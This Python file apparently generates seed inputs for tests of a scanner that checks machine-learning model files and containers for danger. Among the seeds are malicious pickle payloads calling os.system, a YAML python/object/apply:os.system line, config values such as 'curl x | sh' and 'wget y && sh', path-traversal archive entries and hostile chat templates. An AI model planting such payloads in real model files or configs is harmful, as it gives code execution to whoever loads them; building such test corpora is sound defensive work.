"""Seeds of model files and containers, built by what the tests build theirs with."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import tarfile
import zipfile

import numpy as np
from tests.probes.artifacts import (
    test_bounds,
    test_integrity,
    test_known_gadgets,
    test_raw_weights,
    test_tensor_files,
    test_text_graphs,
)
from tests.probes.artifacts.assemble import EVIL, IMPORTS, call, proto, zipped
from tests.probes.artifacts.test_archives import torch_zip
from tests.probes.artifacts.test_keras import FUNCTION, LAMBDA, model
from tests.probes.artifacts.test_more_archives import seven
from tests.probes.artifacts.wire import packed


def artifacts() -> dict[str, list[bytes]]:
    """Seeds by target."""
    files = dict(test_bounds.FILES)
    pickles = [files["pickle"], EVIL, EVIL + EVIL]
    pickles += [proto(4) + call(way("os", "system")) + b"." for way in IMPORTS.values()]
    pickles += [pickle.dumps([1, 2.5, "x", None, b"y", {1}, (1,)], one) for one in range(6)]
    pickles += [proto(4) + one + b"." for one in test_known_gadgets.CHAINS.values()]
    pickles.append(test_bounds.OPCODES)
    archives = [files["zip"], files["npz"], files["keras"], torch_zip(EVIL), zipped({})]
    archives += [zipped({"a": b"x" * 50}, kind) for kind in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)]
    tars = []
    for form in (tarfile.PAX_FORMAT, tarfile.GNU_FORMAT, tarfile.USTAR_FORMAT):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
            info = tarfile.TarInfo("a/" + "b" * 60 + "/data.pkl")
            info.size = len(EVIL)
            archive.addfile(info, io.BytesIO(EVIL))
            link = tarfile.TarInfo("l")
            link.type, link.linkname = tarfile.SYMTYPE, "../../x"
            archive.addfile(link)
        tars.append(buffer.getvalue()[:4096])
    packers = (gzip.compress, bz2.compress, lzma.compress)
    arrays = []
    for value in (np.ones((2, 3)), np.array([{}], dtype=object), np.zeros(2, "i4,f8")):
        buffer = io.BytesIO()
        np.save(buffer, value)
        arrays.append(buffer.getvalue())
    gguf = [files["gguf"], test_integrity.in_gguf(test_integrity.SMALL)]
    gguf += [
        test_tensor_files.gguf(
            [
                test_tensor_files.pair(
                    "tokenizer.chat_template", 8, test_tensor_files.string(template)
                )
            ],
            [],
        )
        for template in test_tensor_files.EVIL_TEMPLATES[:3]
    ]
    templates = [*test_tensor_files.EVIL_TEMPLATES, *test_tensor_files.GOOD_TEMPLATES]
    sevens = [
        seven({"readme": b"hello" * 9, "a/data.pkl": EVIL}),
        seven({"x": EVIL}, coder=b"\x01\x00", pack=lambda data: data),
        seven({"../../x": b"hello"}),
    ]
    protobuf = [files[one] for one in ("onnx", "saved model", "core ml", "paddle")]
    keras = [model(LAMBDA), model(*(json.loads(json.dumps([FUNCTION]))))]
    yaml = [files["mlflow"], b"a: !!python/object/apply:os.system [id]\n", b"_target_: os.system\n"]
    return {
        "model-file": [*files.values(), *sevens],
        "pickle": pickles,
        "zip": archives,
        "safetensors": [files["safetensors"], test_integrity.safetensors(test_integrity.SMALL)],
        "gguf": gguf,
        "npy": arrays,
        "hdf5": [files["hdf5"]],
        "keras": keras,
        "tar": tars,
        "compressed": [pack(EVIL) for pack in packers] + [_zstd(EVIL), _lz4(EVIL)],
        "7z": sevens,
        "json-config": [files["config"], files["tokenizer"]],
        "yaml-config": yaml,
        "chat-template": [one.encode() for one in templates],
        "xml": [files["pmml"], files["openvino"]],
        "tflite": [files["tflite"]],
        "flax": [files["flax"], packed({"a": [1, "x", None, True, 1.5, b"y"]})],
        "protobuf": protobuf,
        "jinja": [one.encode() for one in templates],
        "digest-manifest": [b"0" * 64 + b"  a/b.bin\n\\" + b"1" * 64 + b"  c\\nd\n"],
        "python-beside": [b"import os\nos.system('id')\n", b"import torch\nx = torch.ones(2)\n"],
        "stray-pickle": [
            b"%PDF-1.4\n" + EVIL,
            bytes(30) + EVIL[2:],
            b"x" * 9 + b"\x80\x09" + EVIL[2:],
        ],
        "python-path": [b"import os; os.system('id')\n", b"/a/b\nimport x_finder\n"],
        "config-values": [
            json.dumps({"run": "curl x | sh", "a": [{"text": "os.system('id')"}]}).encode(),
            json.dumps({"hook": ["bash", "-c", "$(id)"], "b": "{{ x }} wget y && sh"}).encode(),
        ],
        "gzip": [
            gzip.compress(b"plain"),
            gzip.compress(b"a") * 2,
            gzip.compress(b"x" * 900)[:-8],
            b"\x1f\x8b\x08\x1c" + bytes(6) + b"\x02\0ab" + b"n\0c\0" + gzip.compress(b"y")[10:],
        ],
        "graph-text": [
            test_text_graphs.graph(test_text_graphs.PLACE, test_text_graphs.READ).encode(),
            json.dumps(test_text_graphs.ONNX).encode(),
        ],
        "paddle-json": [b'{"base_code": {"magic": "pir"}, "program": {"#": "1.py_func"}}'],
        "paddle-params": [
            test_raw_weights.params(test_raw_weights.ONES, test_raw_weights.RAMP),
            test_raw_weights.params(test_raw_weights.ONES, levels=(16,)),
        ],
        "core-ml-weights": [test_raw_weights.blobs(test_raw_weights.ONES, test_raw_weights.RAMP)],
        "opaque-weights": [test_raw_weights.ORT, test_raw_weights.INDEX],
        "onnx-external": [b"location\n../w\noffset\n0\nlength\n4\n\nlocation\nw\nlength\n-1"],
        "text-message": [test_text_graphs.graph(test_text_graphs.READ).encode(), b"a { b: 'c' }"],
        "pack-names": [b"mine\nos.system\nmodule\nClass\nwhy"],
        "weight-integrity": [*test_integrity.SAMPLES, *arrays],
    }


def _zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(data))
